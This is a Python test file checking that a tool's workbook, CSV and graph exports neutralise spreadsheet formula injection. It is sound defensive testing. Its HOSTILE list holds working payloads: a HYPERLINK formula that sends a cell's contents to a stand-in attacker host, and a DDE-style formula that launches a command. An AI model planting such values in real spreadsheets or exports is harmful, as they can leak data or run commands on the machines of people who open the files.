"""Workbooks, tables and graphs are what other programs read, and nothing in them runs."""

import csv
import io
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from xml.etree import ElementTree as ET

import networkx as nx
import pytest

from monitor.exchange import graph, tables
from monitor.exchange.facts import Shared, SharedSite
from monitor.exchange.forms import FORMS
from storage.findings.handed import Contact
from storage.findings.shown import Offered

HOSTILE = (
    '=HYPERLINK("http://mal.example/?"&A1,"cliquez")', "@SUM(1+1)*cmd|' /C calc'!A0", "+33639980134", "-2+3", "\t=1+1", "\n=1+1", " =1+1",
    "http://mal.example/", "1e5", "a\0b\x1b[2J\ufffe", "x" * 40_000, "<f>1</f>", "\ud83d",
)  # fmt: skip


def _shared(*names: str) -> Shared:
    goods = [Offered(name=one, price="34.90", currency="EUR", availability="in stock", capture_id="c") for one in names]  # fmt: skip
    contacts = [Contact(kind="phone", value=one, since="2026-11-02T06:00:00Z", capture_id="c") for one in names]  # fmt: skip
    site = SharedSite(id="boutique.example", site=None, contacts=tuple(contacts), goods=tuple(goods))  # fmt: skip
    return Shared(id="x", title="=1+1", at=datetime(2026, 11, 2, 6, tzinfo=UTC), unit="Unité", sites=(site,), leads=(), captures={})  # fmt: skip


def test_a_workbook_holds_no_formula_and_no_link() -> None:
    """What a shop called its goods opens as words: no cell is a formula, a number or a link."""
    with zipfile.ZipFile(io.BytesIO(tables.workbook(_shared(*HOSTILE)))) as book:
        names = book.namelist()
        sheets = [ET.fromstring(book.read(one)) for one in names if "worksheets/sheet" in one]
        strings = ET.fromstring(book.read("xl/sharedStrings.xml"))
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    said = ["".join(one.itertext()) for one in strings.iter(f"{space}si")]

    assert len(sheets) == 6
    assert {cell.get("t") for sheet in sheets for cell in sheet.iter(f"{space}c")} == {"s"}
    assert [one for sheet in sheets for tag in ("f", "hyperlink") for one in sheet.iter(f"{space}{tag}")] == []  # fmt: skip
    assert [one for one in names if "external" in one or one.endswith("vbaProject.bin")] == []
    assert {HOSTILE[0], HOSTILE[2], HOSTILE[7]} <= set(said)
    assert max(len(one) for one in said) == 32_767


def test_no_cell_of_a_table_begins_as_a_formula() -> None:
    """A spreadsheet takes a CSV cell by its first sign (OWASP, CSV Injection); the words are there, behind an apostrophe."""
    with zipfile.ZipFile(io.BytesIO(tables.comma_separated(_shared(*HOSTILE)))) as archive:
        read = {one: list(csv.reader(io.StringIO(archive.read(one).decode("utf-8-sig"), newline=""))) for one in archive.namelist()}  # fmt: skip
    cells = [cell for rows in read.values() for row in rows for cell in row]

    assert len(read) == 6
    assert [one for one in cells if one.strip()[:1] in {"=", "+", "-", "@"}] == []
    assert "'" + HOSTILE[0] in cells
    assert {len(row) for row in read["annonces.csv"]} == {6}


def test_a_graph_is_read_back_with_all_its_edges() -> None:
    """By the library that Gephi's users know, whatever the strangers wrote."""
    made = nx.read_graphml(io.BytesIO(graph.graph(_shared(*HOSTILE[:6]))))

    assert made.nodes["site boutique.example"]["kind"] == "site"
    assert len(made.edges) == len(HOSTILE[:6])
    assert {edge["capture"] for _, _, edge in made.edges(data=True)} == {"c"}


@pytest.mark.parametrize("form", FORMS, ids=lambda one: one.name)
def test_a_form_writes_the_same_twice_and_writes_nothing_found(form: object) -> None:
    """A finding handed on twice is one file; of nothing there is a file too."""
    assert form in FORMS
    for shared in (_shared("BM10"), replace(_shared(), sites=())):
        assert form.write(shared, "amber") == form.write(shared, "amber")  # type: ignore[attr-defined]
